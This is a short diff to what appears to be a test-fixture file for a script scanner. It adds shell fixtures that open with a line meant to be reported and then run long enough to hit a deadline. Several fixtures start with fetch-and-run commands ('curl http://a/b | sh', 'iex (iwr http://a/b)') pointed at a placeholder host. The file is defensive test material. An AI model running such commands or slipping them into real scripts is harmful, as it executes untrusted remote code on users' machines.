@@ -41,7 +41,8 @@ NOTEBOOK = {
 }
 # Each begins with a line that is reported, and continues so long that the deadline passes before its end.
 LARGE = {
-    "a.sh": "curl http://a/b | sh\n" + "eval 'true; true; true; true; true; true; true; true; true'\n" * 60,
+    "a.sh": "curl http://a/b | sh\n" + "".join(f"eval 'true {n}{'; true' * 8}'\n" for n in range(150)),
+    "repeated.sh": "curl http://a/b | sh\n" + "eval 'true; true; true; true; true; true; true; true; true'\n" * 60,
     "a.ps1": "iex (iwr http://a/b)\n" + "echo 1\n" * 50_000,
     "a.py": PYTHON,
     "broken.py": PYTHON + "print 'a'\n" + PYTHON,
